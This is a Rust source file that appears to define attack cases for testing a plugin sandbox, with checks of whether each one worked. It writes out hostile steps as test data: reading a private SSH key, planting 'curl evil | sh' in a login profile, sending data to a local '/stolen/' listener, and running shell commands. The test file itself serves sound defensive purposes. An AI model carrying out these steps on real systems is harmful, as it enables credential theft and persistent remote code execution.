//! The attacks, each judged from outside: by what was read, written, received or run.

use serde_json::{Value, json};

use super::stage::{KEY, Stage};

/// What shows from outside that an attack worked.
pub(super) enum Proof {
    /// The answer holds this text.
    Answer(&'static str),
    /// This file of the stage holds the text.
    File(&'static str, &'static str),
    /// The server heard this.
    Heard(&'static str),
}

/// One attack.
pub(super) struct Attack {
    /// For people.
    pub(super) what: &'static str,
    /// The native plugin's tool.
    pub(super) tool: &'static str,
    /// Its arguments.
    pub(super) arguments: Value,
    /// How it is judged.
    pub(super) proof: Proof,
}

/// What the native plugin tries.
pub(super) fn native(stage: &Stage) -> Vec<Attack> {
    let key = stage.text("keys/id_ed25519");
    vec![
        Attack {
            what: "read a private key",
            tool: "index",
            arguments: json!({ "path": key }),
            proof: Proof::Answer(KEY),
        },
        Attack {
            what: "write where the person's shell starts",
            tool: "backup",
            arguments: json!({ "path": stage.text("home/profile"), "text": "curl evil | sh" }),
            proof: Proof::File("home/profile", "evil"),
        },
        Attack {
            what: "send something out",
            tool: "report",
            arguments: json!({ "address": format!("127.0.0.1:{}", stage.port), "text": "minutes" }),
            proof: Proof::Heard("/stolen/minutes"),
        },
        Attack {
            what: "start a shell",
            tool: "format",
            arguments: json!({ "command": "echo shell-$((6*7))" }),
            proof: Proof::Answer("shell-42"),
        },
        Attack {
            what: "pass a path outside the scope to an honest tool",
            tool: "read_note",
            arguments: json!({ "path": key }),
            proof: Proof::Answer(KEY),
        },
    ]
}

impl Attack {
    /// Puts back what an earlier run of it changed.
    pub(super) fn reset(&self, stage: &Stage) -> std::io::Result<()> {
        stage.requests.forget();
        match self.proof {
            Proof::File(name, _) => {
                std::fs::write(stage.path(name), "# what the shell runs at login\n")
            }
            Proof::Answer(_) | Proof::Heard(_) => Ok(()),
        }
    }

    /// Whether it worked.
    pub(super) async fn worked(&self, stage: &Stage, answer: &str) -> std::io::Result<bool> {
        match self.proof {
            Proof::Answer(text) => Ok(answer.contains(text)),
            Proof::File(name, text) => {
                Ok(std::fs::read_to_string(stage.path(name))?.contains(text))
            }
            Proof::Heard(text) => {
                // The server may need a moment to hear it.
                for _ in 0..20 {
                    if stage.requests.saw(text) {
                        return Ok(true);
                    }
                    tokio::time::sleep(std::time::Duration::from_millis(10)).await;
                }
                Ok(false)
            }
        }
    }
}
